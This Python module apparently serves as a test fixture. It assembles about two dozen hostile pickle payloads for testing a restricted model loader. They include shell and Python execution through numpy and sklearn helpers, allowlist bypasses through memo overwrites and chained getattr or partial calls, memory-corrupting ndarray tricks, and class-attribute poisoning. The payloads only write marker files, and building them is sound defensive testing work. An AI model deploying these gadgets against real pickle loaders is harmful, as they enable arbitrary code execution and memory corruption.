"""Hostile pickles, assembled opcode by opcode: each would write its marker file (or
corrupt memory) if anything unpickled it the ordinary way."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np
from sklearn.linear_model import LogisticRegression

P = pickle


def text(value: str) -> bytes:
    """Push a string (protocol 1+)."""
    raw = value.encode()
    if len(raw) < 256:
        return P.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return P.BINUNICODE + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    """Push bytes (protocol 3+)."""
    return P.BINBYTES + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str, protocol: int = 4) -> bytes:
    """Import module.attribute the way the protocol does."""
    if protocol >= 4:
        return text(module) + P.MEMOIZE + text(attribute) + P.MEMOIZE + P.STACK_GLOBAL
    return P.GLOBAL + f"{module}\n{attribute}\n".encode()


def tup(*items: bytes) -> bytes:
    return P.MARK + b"".join(items) + P.TUPLE


def call(target: bytes, *args: bytes) -> bytes:
    return target + tup(*args) + P.REDUCE


def framed(body: bytes, protocol: int = 4) -> bytes:
    return P.PROTO + bytes([protocol]) + body + P.STOP


def python_writing(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def shell_writing(marker: Path) -> str:
    return f"touch '{marker}'"


def runstring(marker: Path, protocol: int) -> bytes:
    """numpy.testing.runstring(code, {}) through its public re-export, in any protocol."""
    code = python_writing(marker)
    if protocol == 0:
        body = (
            P.GLOBAL
            + b"numpy.testing\nrunstring\n"
            + P.MARK
            + P.UNICODE
            + code.encode("raw_unicode_escape")
            + b"\n"
            + P.MARK
            + P.DICT
            + P.TUPLE
            + P.REDUCE
        )
        return body + P.STOP
    empty = P.EMPTY_DICT
    body = call(name("numpy.testing", "runstring", protocol), text(code), empty)
    return framed(body, protocol) if protocol >= 2 else body + P.STOP


def shell_getnm(marker: Path) -> bytes:
    """numpy.distutils.lib2def.getnm('touch ...'): Popen(shell=True)."""
    return framed(call(name("numpy.distutils.lib2def", "getnm"), text(shell_writing(marker))))


def shell_exec_command(marker: Path) -> bytes:
    """numpy.distutils.exec_command._exec_command('touch ...'): /bin/sh -c."""
    target = name("numpy.distutils.exec_command", "_exec_command", 3)
    return framed(call(target, text(shell_writing(marker))), 3)


def sklearn_script(marker: Path) -> bytes:
    """sklearn.utils._testing.assert_run_python_script_without_output(code): a subprocess."""
    target = name("sklearn.utils._testing", "assert_run_python_script_without_output")
    return framed(call(target, text(python_writing(marker))))


def numpy_measure(marker: Path) -> bytes:
    """numpy.testing.measure(code): exec."""
    return framed(call(name("numpy.testing", "measure"), text(python_writing(marker))))


def memo_names(marker: Path) -> bytes:
    """STACK_GLOBAL on names parked in the memo inside a harmless list, fetched later."""
    parked = (
        P.EMPTY_LIST
        + P.MARK
        + text("numpy.testing")
        + P.BINPUT
        + b"\x07"
        + text("runstring")
        + P.BINPUT
        + b"\x08"
        + P.APPENDS
        + P.POP
    )
    fetched = P.BINGET + b"\x07" + P.BINGET + b"\x08" + P.STACK_GLOBAL
    return framed(parked + call(fetched, text(python_writing(marker)), P.EMPTY_DICT))


def memo_overwrite(marker: Path) -> bytes:
    """Allowed names memoised first, then overwritten in place before STACK_GLOBAL."""
    allowed = text("sklearn.pipeline") + P.BINPUT + b"\x01" + text("Pipeline") + P.BINPUT + b"\x02"
    swapped = text("numpy.testing") + P.BINPUT + b"\x01" + text("runstring") + P.BINPUT + b"\x02"
    fetched = P.BINGET + b"\x01" + P.BINGET + b"\x02" + P.STACK_GLOBAL
    body = allowed + P.POP + P.POP + swapped + P.POP + P.POP
    return framed(body + call(fetched, text(python_writing(marker)), P.EMPTY_DICT))


def built_name(marker: Path) -> bytes:
    """A module name made by calling an allowed class (builtins.str), then STACK_GLOBAL."""
    module = call(name("builtins", "str"), text("numpy.testing"))
    target = module + text("runstring") + P.STACK_GLOBAL
    return framed(call(target, text(python_writing(marker)), P.EMPTY_DICT))


def nested_reduce(marker: Path) -> bytes:
    """An allowed estimator whose argument is a gadget's result."""
    inner = call(name("numpy.distutils.lib2def", "getnm"), text(shell_writing(marker)))
    return framed(call(name("sklearn.linear_model._logistic", "LogisticRegression"), inner))


def build_setstate(marker: Path) -> bytes:
    """BUILD plants __setstate__ on an allowed instance; a second BUILD would call it."""
    instance = name("sklearn.preprocessing._label", "LabelEncoder") + P.EMPTY_TUPLE + P.NEWOBJ
    planted = (
        P.EMPTY_DICT + text("__setstate__") + name("numpy.distutils.lib2def", "getnm") + P.SETITEM
    )
    return framed(instance + planted + P.BUILD + text(shell_writing(marker)) + P.BUILD)


def getattr_chain(marker: Path) -> bytes:
    """builtins.getattr(__import__('numpy.testing', ...), 'runstring')(code, {})."""
    module = call(
        name("builtins", "__import__"),
        text("numpy.testing"),
        P.NONE,
        P.NONE,
        P.MARK + text("runstring") + P.LIST,
    )
    found = call(name("builtins", "getattr"), module, text("runstring"))
    return framed(call(found, text(python_writing(marker)), P.EMPTY_DICT))


def attrgetter_chain(marker: Path) -> bytes:
    """operator.attrgetter('testing.runstring')(importlib.import_module('numpy'))(...)."""
    getter = call(name("operator", "attrgetter"), text("testing.runstring"))
    numpy = call(name("importlib", "import_module"), text("numpy"))
    found = getter + tup(numpy) + P.REDUCE
    return framed(call(found, text(python_writing(marker)), P.EMPTY_DICT))


def partial_chain(marker: Path) -> bytes:
    """functools.partial(getnm, 'touch ...') called with no arguments."""
    bound = call(
        name("functools", "partial"),
        name("numpy.distutils.lib2def", "getnm"),
        text(shell_writing(marker)),
    )
    return framed(bound + P.EMPTY_TUPLE + P.REDUCE)


def inst_opcode(marker: Path) -> bytes:
    """Protocol 0's INST: import and call in one opcode."""
    code = python_writing(marker).encode("raw_unicode_escape")
    return (
        P.MARK
        + P.UNICODE
        + code
        + b"\n"
        + P.MARK
        + P.DICT
        + P.INST
        + b"numpy.testing\nrunstring\n"
        + P.STOP
    )


def obj_opcode(marker: Path) -> bytes:
    """Protocol 1's OBJ: call the class (here a function) on the stack after MARK."""
    target = name("numpy.testing", "runstring", 1)
    return P.MARK + target + text(python_writing(marker)) + P.EMPTY_DICT + P.OBJ + P.STOP


def extension_code(_: Path) -> bytes:
    """EXT1: a name from the copyreg extension registry, not from the file."""
    return framed(P.EXT1 + b"\x01" + P.EMPTY_TUPLE + P.REDUCE)


def persistent_id(_: Path) -> bytes:
    """BINPERSID: an object the loader would have to fetch from elsewhere."""
    return framed(text("/etc/passwd") + P.BINPERSID)


def dtype_mutation(_: Path) -> bytes:
    """Only allowed names: a void dtype holds raw bytes in an array, then BUILD rewrites the
    same dtype into object fields, so the array's bytes become object pointers (0x41...)."""
    dtype = call(name("numpy", "dtype"), text("V16"), P.NEWFALSE, P.NEWTRUE) + P.BINPUT + b"\x01"
    array = (
        call(
            name("numpy._core.multiarray", "_reconstruct"),
            name("numpy", "ndarray"),
            tup(P.BININT1 + b"\x00"),
            raw(b"b"),
        )
        + tup(
            P.BININT1 + b"\x01",
            tup(P.BININT1 + b"\x01"),
            P.BINGET + b"\x01",
            P.NEWFALSE,
            raw(b"A" * 16),
        )
        + P.BUILD
    )
    objects = call(name("numpy", "dtype"), text("O8"), P.NEWFALSE, P.NEWTRUE)
    f8 = call(name("numpy", "dtype"), text("f8"), P.NEWFALSE, P.NEWTRUE)
    fields = P.EMPTY_DICT + text("a") + tup(objects, P.BININT1 + b"\x00") + P.SETITEM
    fields += text("b") + tup(f8, P.BININT1 + b"\x08") + P.SETITEM
    state = tup(
        P.BININT1 + b"\x03", text("|"), P.NONE, tup(text("a"), text("b")), fields,
        P.BININT1 + b"\x10", P.BININT1 + b"\x01", P.BININT1 + b"\x3f",
    )  # fmt: skip
    return framed(P.MARK + dtype + P.POP + array + P.BINGET + b"\x01" + state + P.BUILD + P.TUPLE)


def ndarray_over_bytes(_: Path) -> bytes:
    """numpy.ndarray(shape, object, buffer): the file's bytes laid out as object pointers."""
    objects = call(name("numpy", "dtype"), text("O8"), P.NEWFALSE, P.NEWTRUE)
    return framed(call(name("numpy", "ndarray"), tup(P.BININT1 + b"\x01"), objects, raw(b"A" * 8)))


def ndarray_newobj(_: Path) -> bytes:
    """The same through NEWOBJ: ndarray.__new__(ndarray, shape, object, buffer)."""
    objects = call(name("numpy", "dtype"), text("O8"), P.NEWFALSE, P.NEWTRUE)
    args = tup(tup(P.BININT1 + b"\x01"), objects, raw(b"A" * 8))
    return framed(name("numpy", "ndarray") + args + P.NEWOBJ)


def class_poison(_: Path) -> bytes:
    """BUILD on an imported class: LogitLink.inverse replaced for every later model."""
    slots = P.EMPTY_DICT + text("inverse") + name("numpy", "ndarray") + P.SETITEM
    return framed(name("sklearn._loss.link", "LogitLink") + tup(P.NONE, slots) + P.BUILD)


def joblib_file(path: Path) -> bytes:
    """A joblib dump of a real model: a pickle naming joblib's array wrapper, arrays after it."""
    rng = np.random.default_rng(0)
    x = rng.standard_normal((20, 3))
    joblib.dump(LogisticRegression().fit(x, x[:, 0] > 0), path.with_suffix(".joblib"))
    return path.with_suffix(".joblib").read_bytes()


PICKLES: dict[str, Callable[[Path], bytes]] = {
    **{f"runstring-protocol-{p}": (lambda m, p=p: runstring(m, p)) for p in range(6)},
    "shell-getnm": shell_getnm,
    "shell-exec-command": shell_exec_command,
    "sklearn-run-python-script": sklearn_script,
    "numpy-measure": numpy_measure,
    "stack-global-memo-names": memo_names,
    "stack-global-memo-overwrite": memo_overwrite,
    "stack-global-built-name": built_name,
    "nested-reduce": nested_reduce,
    "build-planted-setstate": build_setstate,
    "getattr-chain": getattr_chain,
    "attrgetter-chain": attrgetter_chain,
    "partial-chain": partial_chain,
    "inst-opcode": inst_opcode,
    "obj-opcode": obj_opcode,
    "extension-registry": extension_code,
    "persistent-id": persistent_id,
    "dtype-mutated-after-use": dtype_mutation,
    "ndarray-over-raw-bytes": ndarray_over_bytes,
    "ndarray-newobj-with-buffer": ndarray_newobj,
    "class-attribute-poison": class_poison,
    "joblib-dump": joblib_file,
}
